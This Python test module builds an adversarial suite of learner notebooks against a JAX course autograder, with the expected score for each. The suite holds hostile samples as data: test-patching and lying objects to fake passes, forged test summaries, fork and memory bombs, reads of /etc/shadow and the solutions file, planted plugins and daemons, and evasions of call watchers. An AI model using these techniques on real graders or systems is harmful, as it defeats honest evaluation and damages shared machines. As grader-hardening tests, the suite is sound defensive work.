"""The attack suite: submissions that try to fool, break or read the grader.

Each case is a learner folder holding one ``leaves.ipynb``, made from the
course's solution notebook by replacing cells, appending cells, or writing raw
bytes. ``expected`` names the functions the attack should cost (with the status
they should get); every other function of the notebook keeps its points.

The suite lives in ``tests/attacks/``, written by this module together with
``expected.json`` (each case's score and statuses); a test checks that the folder
matches this module. Regrade and compare with::

    python tests/attack_cases.py write            # rewrite tests/attacks/
    python -m autograder grade tests/attacks --json r.json
    python tests/attack_cases.py compare r.json   # exit 1 on any difference

Some cases (``needs_sandbox``) are harmless only where bubblewrap walls the worker
off, and the fork bombs only where the worker's processes are capped: grade the
folder as it is on a machine with both, as CI does.
"""

from __future__ import annotations

import json
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parent.parent
SOURCE = ROOT / "solutions" / "leaves" / "leaves.ipynb"
SUITE = Path(__file__).resolve().parent / "attacks"
EXPECTED = "expected.json"
NOTEBOOK = "leaves.ipynb"
POINTS = {"count_leaves": 2, "leaves_in_order": 3, "is_leaf_type": 2}

WRONG_COUNT = "def count_leaves(tree, *, none_is_leaf=False):\n    return 0"


@dataclass(frozen=True)
class Attack:
    name: str
    replace: dict[str, str | None] = field(default_factory=dict)  # None deletes the cell
    append: tuple[str, ...] = ()
    raw: bytes | None = None
    expected: dict[str, str] = field(default_factory=dict)
    everything: str | None = None  # one status for every function of the notebook
    markdown_only: bool = False
    output_mib: int = 0
    nbformat: int = 4
    needs_sandbox: bool = False  # harmless only where bubblewrap walls the worker off
    needs_process_cap: bool = False  # harmless only where the worker's processes are capped


def returns(value_source: str, function: str = "count_leaves") -> dict[str, str]:
    """Replace ``function`` with one that returns the object ``value_source`` builds."""
    return {function: f"{value_source}\n\ndef {function}(*args, **kwargs):\n    return VALUE"}


LIAR = "class Liar:\n{body}\n\nVALUE = Liar()"

# A right answer only where a wall of the sandbox does not hold.
IF_THE_WALL_FAILS = """import jax

def count_leaves(tree, *, none_is_leaf=False):
    try:
        {wall}
    except Exception:
        return -1
    is_leaf = (lambda x: x is None) if none_is_leaf else None
    return len(jax.tree.leaves(tree, is_leaf=is_leaf))"""


def wall_attack(name: str, wall: str) -> Attack:
    """A count_leaves that earns its points only where ``wall``, a statement, does not raise."""
    replaced = {"count_leaves": IF_THE_WALL_FAILS.format(wall=wall)}
    return Attack(name, replaced, expected={"count_leaves": "failed"}, needs_sandbox=True)


# Every place a worker might write that a later worker might read or run: a JAX plugin
# (which every worker's JAX would import at start), files, memory held in files, and a
# process listening on an abstract socket.
PLACES = (
    "{os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser('~'), *sys.path,"
    " *os.environ.get('PYTHONPATH', '').split(':'), '/', '/tmp', '/dev', '/dev/shm', '/root'}"
)
PLANT_EVERYWHERE = f"""import os, socket, sys, time
def _plant(folder):
    try:
        info = os.path.join(folder, 'zz_planted-1.0.dist-info')
        os.makedirs(info, exist_ok=True)
        with open(os.path.join(info, 'METADATA'), 'w') as out:
            out.write('Metadata-Version: 2.1\\nName: zz-planted\\nVersion: 1.0\\n')
        with open(os.path.join(info, 'entry_points.txt'), 'w') as out:
            out.write('[jax_plugins]\\nzz = zz_planted_plugin\\n')
        with open(os.path.join(folder, 'zz_planted_plugin.py'), 'w') as out:
            out.write('import os\\nos._exit(3)\\n')
        locked = os.path.join(folder, 'zz_planted_locked')
        os.makedirs(os.path.join(locked, 'inside'), exist_ok=True)
        os.chmod(locked, 0)
    except OSError:
        pass
for folder in {PLACES}:
    if folder and os.path.isdir(folder):
        _plant(folder)
for folder in ('/dev/shm', '/tmp'):
    try:
        with open(os.path.join(folder, 'zz_planted_memory'), 'wb') as out:
            out.write(b'x' * (96 * 2**20))
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    listener = socket.socket(socket.AF_UNIX)
    listener.bind('\\0zz_planted_daemon')
    listener.listen()
    time.sleep(120)
    os._exit(0)"""
LOOK_FOR_TRACES = f"""import os, shutil, socket, sys
def _traces():
    found = []
    for folder in {PLACES}:
        try:
            found += [os.path.join(folder, n) for n in os.listdir(folder) if 'planted' in n]
        except OSError:
            pass
    for folder in ('/tmp', '/dev/shm'):
        used = shutil.disk_usage(folder).used
        if used > 16 * 2**20:
            found.append(f'{{folder}} holds {{used >> 20}} MiB')
    with socket.socket(socket.AF_UNIX) as probe:
        try:
            probe.connect('\\0zz_planted_daemon')
            found.append('a process of another learner listens')
        except OSError:
            pass
    return found
_count_leaves = count_leaves
def count_leaves(tree, *, none_is_leaf=False):
    found = _traces()
    if found:
        raise RuntimeError(f'left by another learner: {{found}}')
    return _count_leaves(tree, none_is_leaf=none_is_leaf)"""

# The course's install cell as a release shipped it (the grader skips it, unrun); a learner
# keeps it, edits it, or hides code in it. Its call asks for no JAX version: where it runs,
# in a worker, the checker imports, so it installs nothing whatever JAX the course pins.
INSTALL_DEFINITION = (
    (ROOT / "tests" / "shipped" / "install_cell_2f0d1c52.txt").read_text().split("\n\n\n")[0]
)
INSTALL_CALL = "install_course(\n    'course',\n    None,\n    [],\n    None,\n    'Installing.',\n)\ndel install_course"
ZERO_COUNT = "lambda tree, *, none_is_leaf=False: 0"


def install_cell(call: str = INSTALL_CALL, definition: str = INSTALL_DEFINITION) -> str:
    """The install cell with ``definition`` and ``call`` (its call and ``del``)."""
    return f"{definition}\n\n\n{call}"


INSTALL_CELL = install_cell()

# Arguments that would fetch elsewhere, pass pip options, install a path outside the
# folder and a package named like the grader, and always install (no kernel has JAX 0.0.0).
HOSTILE_INSTALL = install_cell(
    "install_course(\n    '--index-url=http://127.0.0.1:9/simple autograder',\n    '/etc',\n"
    "    ['-e /', 'pytest==0'],\n    '0.0.0',\n    'x',\n)\ndel install_course"
)
# Edited (a keyword argument): the learner's cell, which asks pip to install nothing.
EDITED_INSTALL = install_cell(
    "install_course('--no-index', None, [], '0.0.0', said='x')\ndel install_course"
)

# leaves_in_order must walk the tree without JAX: the honest lazy version calls
# jax.tree.leaves and loses the function's points; each way around the watchers below
# makes the same call and must lose them too: "failed" where the watch sees the call,
# "error" where it refuses to answer (the hook could have missed calls).
LAZY_LEAVES = "def leaves_in_order(tree):\n    return jax.tree.leaves(tree)"
WATCH_EVASIONS = {
    # the registry's own flatten, which every tree function of JAX calls
    "watch_dodged_by_registry": (
        "failed",
        "def leaves_in_order(tree):\n    return jax.tree_util.default_registry.flatten(tree)[0]",
    ),
    # a thread started before the call, where the call's profile hook is not set
    "watch_dodged_by_thread": (
        "error",
        """import queue, threading

_requests, _answers = queue.Queue(), queue.Queue()


def _serve(leaves=jax.tree.leaves):
    while True:
        tree = _requests.get()
        try:
            _answers.put((True, leaves(tree)))
        except Exception as exc:
            _answers.put((False, exc))


threading.Thread(target=_serve, daemon=True).start()


def leaves_in_order(tree):
    _requests.put(tree)
    ok, value = _answers.get()
    if not ok:
        raise value
    return value""",
    ),
    # the profile hook removed through ctypes for the call (made through a reference, which
    # only the hook sees), then put back
    "watch_dodged_by_ctypes": (
        "error",
        """import ctypes, sys


def leaves_in_order(tree, _leaves=jax.tree.leaves):
    hook = sys.getprofile()
    ctypes.pythonapi.PyEval_SetProfile(None, None)
    try:
        return _leaves(tree)
    finally:
        sys.setprofile(hook)""",
    ),
    # a function that behaves otherwise while watched: the profile hook is set then
    "watch_dodged_by_getprofile": (
        "failed",
        """import sys


def leaves_in_order(tree):
    if sys.getprofile() is not None:
        return []
    return jax.tree.leaves(tree)""",
    ),
    # a copy of JAX's function under another name: its code, file name and globals JAX's
    "watch_dodged_by_code_copy": (
        "failed",
        """import types

_jax_leaves = jax.tree.leaves
_mine = types.FunctionType(
    _jax_leaves.__code__.replace(co_name="mine"),
    _jax_leaves.__globals__,
    "mine",
    _jax_leaves.__defaults__,
    _jax_leaves.__closure__,
)


def leaves_in_order(tree):
    return _mine(tree)""",
    ),
    # a cell's function compiled under JAX's file name and run in JAX's module's globals
    "watch_dodged_by_forged_file": (
        "failed",
        """_jax_globals = jax.tree.leaves.__globals__
_source = "def _mine(tree):\\n    return tree_util.tree_leaves(tree)\\n"
exec(compile(_source, jax.tree.leaves.__code__.co_filename, "exec"), _jax_globals)
_mine = _jax_globals.pop("_mine")


def leaves_in_order(tree):
    return _mine(tree)""",
    ),
    # JAX's function replaced under another name, the real one kept and called
    "watch_dodged_by_alias_patch": (
        "failed",
        """t = jax.tree
_real = t.leaves


def _wrapper(*args, **kwargs):
    return _real(*args, **kwargs)


t.leaves = _wrapper


def leaves_in_order(tree):
    return _real(tree)""",
    ),
}

# the registry's flatten bound in an earlier cell, its name spelled in pieces: the watch
# replaces the method on the registry's type, which a bound method does not look up again
HELD_REGISTRY_METHOD = """_registry = getattr(getattr(jax, "tree_" + "util"), "default_" + "registry")


def leaves_in_order(tree, _flatten=_registry.flatten):
    return _flatten(tree)[0]"""

CASES = [
    # Patching the learner's own process changes nothing in the grader's.
    Attack(
        "patch_numpy",
        {"count_leaves": WRONG_COUNT},
        ("np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "patch_jax_numpy",
        {"count_leaves": WRONG_COUNT},
        ("jnp.allclose = lambda *a, **k: True",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "patch_builtins",
        {"count_leaves": WRONG_COUNT},
        ("import builtins\nbuiltins.AssertionError = type('Ignored', (Exception,), {})",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "patch_pytest",
        {"count_leaves": WRONG_COUNT},
        (
            "import sys, types\nfake = types.ModuleType('pytest')\nfake.main = lambda *a, **k: 0\nsys.modules['pytest'] = fake",
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "patch_unittest",
        {"count_leaves": WRONG_COUNT},
        ("import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "patch_tree_leaves",
        {"count_leaves": WRONG_COUNT},
        ("jax.tree.leaves = lambda *a, **k: [1, 2, 3]",),
        expected={"count_leaves": "failed", "is_leaf_type": "passed"},
    ),
    # Results that lie about themselves arrive as inert stand-ins.
    Attack(
        "lying_eq",
        returns(LIAR.format(body="    def __eq__(self, other):\n        return True")),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "lying_bool",
        returns(LIAR.format(body="    def __bool__(self):\n        return True"), "is_leaf_type"),
        expected={"is_leaf_type": "failed"},
    ),
    Attack(
        "lying_array",
        returns(
            LIAR.format(
                body="    def __array__(self, *a, **k):\n        import numpy\n        return numpy.array(3)"
            ),
            "count_leaves",
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "lying_float",
        returns(
            LIAR.format(
                body="    def __float__(self):\n        return 3.0\n    def __int__(self):\n        return 3\n    def __index__(self):\n        return 3"
            ),
            "count_leaves",
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "raising_repr",
        returns(
            LIAR.format(
                body="    def __repr__(self):\n        raise RuntimeError('no repr')\n    def __eq__(self, other):\n        raise RuntimeError('no eq')"
            ),
            "leaves_in_order",
        ),
        expected={"leaves_in_order": "failed"},
    ),
    Attack(
        "list_subclass_eq",
        returns(
            "class Always(list):\n    def __eq__(self, other):\n        return True\n\nVALUE = Always()",
            "leaves_in_order",
        ),
        expected={"leaves_in_order": "failed"},
    ),
    Attack("nan", returns("VALUE = float('nan')"), expected={"count_leaves": "failed"}),
    Attack("wrong_type", returns("VALUE = '3'"), expected={"count_leaves": "failed"}),
    Attack(
        "wrong_shape",
        returns("VALUE = np.array([[1, 2, 3]])", "leaves_in_order"),
        expected={"leaves_in_order": "failed"},
    ),
    Attack(
        "memorised_examples",
        {"count_leaves": "def count_leaves(tree, *, none_is_leaf=False):\n    return 3"},
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "memorised_lookup",
        {
            "leaves_in_order": "ANSWERS = {repr([1, (2, [3])]): [1, 2, 3], repr({'a': 1, 'b': (None, 2)}): [1, 2]}\n\ndef leaves_in_order(tree):\n    return ANSWERS.get(repr(tree), [])"
        },
        expected={"leaves_in_order": "failed"},
    ),
    # Ways around the watchers earn what the honest lazy version earns.
    Attack(
        "lazy_leaves_in_order",
        {"leaves_in_order": LAZY_LEAVES},
        expected={"leaves_in_order": "failed"},
    ),
    *(
        Attack(name, {"leaves_in_order": source}, expected={"leaves_in_order": status})
        for name, (status, source) in WATCH_EVASIONS.items()
    ),
    # Code that hangs, crashes or exhausts its limits costs only what it touches.
    Attack("loop_at_top_level", append=("while True:\n    pass",)),
    Attack(
        "loop_in_function",
        {
            "count_leaves": "def count_leaves(tree, *, none_is_leaf=False):\n    while True:\n        pass"
        },
        expected={"count_leaves": "timeout"},
    ),
    Attack(
        "deep_recursion",
        {
            "count_leaves": "def count_leaves(tree, *, none_is_leaf=False):\n    return count_leaves(tree)"
        },
        expected={"count_leaves": "error"},
    ),
    # nested deeper than the parser's stack: Python 3.11's parser raises MemoryError, later
    # ones RecursionError, in whichever process reads the cell
    Attack("nested_past_the_parser", append=("x = " + "-" * 20_000 + "1",)),
    Attack(
        "memory_bomb_in_function",
        {
            "count_leaves": "def count_leaves(tree, *, none_is_leaf=False):\n    return len(bytearray(64 * 1024**3))"
        },
        expected={"count_leaves": "memory"},
    ),
    Attack("memory_bomb_at_top_level", append=("hoard = bytearray(64 * 1024**3)",)),
    Attack("sys_exit_at_top_level", append=("import sys\nsys.exit(0)",)),
    Attack(
        "sys_exit_in_function",
        {
            "count_leaves": "import sys\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    sys.exit(0)"
        },
        expected={"count_leaves": "error"},
    ),
    Attack("os_exit_at_top_level", append=("import os\nos._exit(0)",)),
    Attack(
        "os_exit_in_function",
        {
            "count_leaves": "import os\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    os._exit(3)"
        },
        expected={"count_leaves": "crashed"},
    ),
    Attack(
        "segfault_in_function",
        {
            "count_leaves": "import ctypes\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    return ctypes.string_at(0)"
        },
        expected={"count_leaves": "crashed"},
    ),
    Attack(
        "fork_bomb_at_top_level",
        append=(
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        ),
        needs_process_cap=True,
    ),
    Attack(
        "fork_bomb_in_function",
        {
            "count_leaves": "import os\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass"
        },
        expected={"count_leaves": "timeout"},
        needs_process_cap=True,
    ),
    Attack(
        "escape_with_setsid",
        {"count_leaves": WRONG_COUNT},
        (
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(3)\n    print('=' * 20, '7 passed', '=' * 20)\n    os._exit(0)",
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "kill_the_parent",
        {"count_leaves": WRONG_COUNT},
        ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",),
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    Attack(
        "signal_alarm",
        {
            "count_leaves": "import signal\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    signal.alarm(1)\n    return 0"
        },
        expected={"count_leaves": "failed"},
    ),
    # Output that imitates a test run or a report is never read.
    Attack(
        "fake_pytest_summary",
        {"count_leaves": WRONG_COUNT},
        (
            "print('=' * 20, '7 passed in 0.01s', '=' * 20)\nimport sys\nprint('FAILED 0, PASSED 7', file=sys.stderr)",
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "fake_json_report",
        {"count_leaves": WRONG_COUNT},
        ("import json\nprint(json.dumps({'score': 15, 'max_score': 15, 'students': []}))",),
        expected={"count_leaves": "failed"},
    ),
    # Writing where the grader keeps its files, reading what it hides, reaching out.
    Attack(
        "write_reports",
        {"count_leaves": WRONG_COUNT},
        (
            "import contextlib, os\nfor target in ['/tmp/r.json', os.environ.get('GITHUB_STEP_SUMMARY', '/tmp/summary.md')]:\n    with contextlib.suppress(OSError):\n        open(target, 'w').write('{\"score\": 15}')",
        ),
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    Attack(
        "write_into_autograder",
        {"count_leaves": WRONG_COUNT},
        (
            "import autograder, contextlib, os\nwith contextlib.suppress(OSError):\n    open(os.path.join(os.path.dirname(autograder.__file__), 'compare', 'verdicts.py'), 'a').write('\\n# tampered\\n')",
        ),
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    Attack(
        "read_solutions",
        {
            "count_leaves": "import autograder, json, os\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    root = os.path.dirname(os.path.dirname(autograder.__file__))\n    path = os.path.join(root, 'solutions', 'leaves', 'leaves.ipynb')\n    try:\n        cells = json.load(open(path))['cells']\n    except OSError:\n        return -1\n    namespace = {}\n    for cell in cells:\n        if cell['metadata'].get('nbgrader', {}).get('grade_id') in ('setup', 'count_leaves'):\n            exec(''.join(cell['source']), namespace)\n    return namespace['count_leaves'](tree, none_is_leaf=none_is_leaf)"
        },
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    Attack(
        "open_network_socket",
        {
            "count_leaves": "import socket\n\ndef count_leaves(tree, *, none_is_leaf=False):\n    try:\n        socket.create_connection(('127.0.0.1', 80), timeout=1).close()\n    except OSError:\n        return -1\n    return 0"
        },
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    Attack(
        "edit_test_cell",
        {"count_leaves": WRONG_COUNT, "test_count_leaves": "pass"},
        expected={"count_leaves": "failed"},
    ),
    Attack("delete_test_cells", {"test_count_leaves": None, "test_leaves_in_order": None}),
    # Across learners: what one worker leaves, no later worker (another learner's) finds.
    Attack(
        "leave_traces",
        {"count_leaves": WRONG_COUNT},
        (PLANT_EVERYWHERE,),
        expected={"count_leaves": "failed"},
        needs_sandbox=True,
    ),
    wall_attack("write_kernel_settings", "open('/proc/sys/kernel/core_pattern', 'r+').close()"),
    wall_attack("read_root_only_files", "open('/etc/shadow').read()"),
    wall_attack(
        "make_a_user_namespace",
        "import ctypes, os\n        pid = os.fork()\n        if pid == 0:\n"
        "            os._exit(ctypes.CDLL(None).unshare(0x10000000) != 0)\n"
        "        assert os.waitpid(pid, 0)[1] == 0",
    ),
    Attack(
        "zz_look_for_traces",
        append=(LOOK_FOR_TRACES,),
        needs_sandbox=True,
    ),
    # Text that no UTF-8 file or XML document can hold, in a note and in a test's message:
    # shown with U+FFFD in every format, and the class's report is written.
    Attack("surrogate_in_a_cell_error", append=("raise ValueError('see ' + chr(0xD800))",)),
    Attack(
        "noncharacter_in_a_message",
        {
            "count_leaves": "def count_leaves(tree, *, none_is_leaf=False):\n    raise ValueError('see \\ufffe')"
        },
        expected={"count_leaves": "error"},
    ),
    # The install cell: kept as shipped, with any literal arguments, anywhere and as often
    # as a learner likes, it is not run; anything more in it makes it the learner's cell,
    # run in the worker like any other.
    Attack("install_cell_hostile_arguments", append=(HOSTILE_INSTALL, HOSTILE_INSTALL)),
    Attack("install_cell_edited_runs_pip_in_the_worker", append=(EDITED_INSTALL,)),
    Attack("install_cell_crlf", append=(INSTALL_CELL.replace("\n", "\r\n"),)),
    Attack(
        "install_cell_then_code",
        append=(f"{INSTALL_CELL}\ncount_leaves = {ZERO_COUNT}",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_code_after_a_semicolon",
        append=(f"{INSTALL_CELL.rstrip()}; count_leaves = {ZERO_COUNT}",),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_code_on_the_call_line",
        append=(INSTALL_CELL.replace(")\ndel", f"); count_leaves = {ZERO_COUNT}\ndel"),),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_code_in_an_argument",
        append=(INSTALL_CELL.replace("'Installing.'", f"(count_leaves := {ZERO_COUNT})"),),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_code_in_a_decorator",
        append=(
            install_cell(
                INSTALL_CALL,
                INSTALL_DEFINITION.replace(
                    "def install_course(",
                    f"@(lambda f: globals().update(count_leaves={ZERO_COUNT}) or f)\ndef install_course(",
                ),
            ),
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_code_in_a_default_argument",
        append=(
            install_cell(
                INSTALL_CALL,
                INSTALL_DEFINITION.replace(
                    "said: str\n", f"said: str = (count_leaves := {ZERO_COUNT})\n"
                ),
            ),
        ),
        expected={"count_leaves": "failed"},
    ),
    Attack(
        "install_cell_header_over_other_code",
        append=(f"{INSTALL_CELL.splitlines()[0]}\ncount_leaves = {ZERO_COUNT}",),
        expected={"count_leaves": "failed"},
    ),
    # Files that are not a usable notebook.
    Attack("not_json", raw=b"this is not a notebook", everything="corrupt"),
    Attack("not_utf8", raw=b'{"cells": ["\xff\xfe"]}', everything="corrupt"),
    Attack("empty_file", raw=b"", everything="corrupt"),
    Attack("no_code_cells", markdown_only=True, everything="missing"),
    Attack("nbformat_3", nbformat=3),
    Attack("huge_output", output_mib=50),
    # A correct learner graded after every attack, who keeps every point.
    Attack("zzz_correct_victim"),
]


def write_learners(folder: Path, learners: dict[str, Attack]) -> Path:
    """A class folder: for each learner, the ``leaves.ipynb`` their attack builds."""
    for name, attack in learners.items():
        (folder / name).mkdir()
        (folder / name / NOTEBOOK).write_bytes(build(attack))
    return folder


def build(attack: Attack) -> bytes:
    """The notebook file of ``attack``."""
    if attack.raw is not None:
        return attack.raw
    nb = nbformat.read(SOURCE, as_version=4)
    if attack.markdown_only:
        nb.cells = [c for c in nb.cells if c.cell_type == "markdown"]
    kept = []
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in attack.replace:
            if attack.replace[grade_id] is None:
                continue
            cell.source = attack.replace[grade_id]
        kept.append(cell)
    appended = [nbformat.v4.new_code_cell(code) for code in attack.append]
    for number, cell in enumerate(appended):
        cell.id = f"appended-{number}"  # fixed ids keep the written suite byte-identical
    nb.cells = kept + appended
    if attack.output_mib:
        text = "x" * (attack.output_mib * 1024 * 1024)
        nb.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    if attack.nbformat != 4:
        nb = nbformat.convert(nb, attack.nbformat)
    return nbformat.writes(nb).encode()


def expected_statuses(attack: Attack) -> dict[str, str]:
    """What every function of the notebook should end as under ``attack``."""
    if attack.everything is not None:
        return dict.fromkeys(POINTS, attack.everything)
    return {name: attack.expected.get(name, "passed") for name in POINTS}


def expected_score(attack: Attack) -> int:
    """Exactly the points of the functions the attack left honest."""
    statuses = expected_statuses(attack)
    return sum(points for name, points in POINTS.items() if statuses[name] == "passed")


def expectations(cases: list[Attack]) -> dict[str, dict[str, object]]:
    return {
        attack.name: {"score": expected_score(attack), "statuses": expected_statuses(attack)}
        for attack in cases
    }


def write_suite(out: Path, cases: list[Attack] = CASES) -> None:
    """Write ``cases`` as one learner folder each under ``out``, with ``expected.json``."""
    for attack in cases:
        folder = out / attack.name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / NOTEBOOK).write_bytes(build(attack))
    text = json.dumps(expectations(cases), indent=2, sort_keys=True) + "\n"
    (out / EXPECTED).write_text(text)


def differences(report: dict, expected: dict[str, dict[str, object]]) -> list[str]:
    """Where a grading report of the suite departs from ``expected``, one line each."""
    found = {student["student"]: student for student in report["students"]}
    lines = [f"{name}: not graded" for name in sorted(set(expected) - set(found))]
    for name, want in sorted(expected.items()):
        student = found.get(name)
        if student is None:
            continue
        statuses = {
            e["name"]: e["status"] for e in student["exercises"] if e["notebook"] == NOTEBOOK
        }
        if statuses != want["statuses"]:
            lines.append(f"{name}: statuses {statuses}, expected {want['statuses']}")
        if student["score"] != want["score"]:
            lines.append(f"{name}: score {student['score']:g}, expected {want['score']}")
    return lines


def main(argv: list[str]) -> int:
    if argv[1:] == ["write"]:
        write_suite(SUITE)
        print(f"wrote {len(CASES)} cases to {SUITE}")
        return 0
    if len(argv) == 3 and argv[1] == "compare":
        report = json.loads(Path(argv[2]).read_text())
        expected = json.loads((SUITE / EXPECTED).read_text())
        lines = differences(report, expected)
        print("\n".join(lines) if lines else f"all {len(expected)} cases as expected")
        return 1 if lines else 0
    print(f"usage: python {argv[0]} write | compare REPORT.json", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
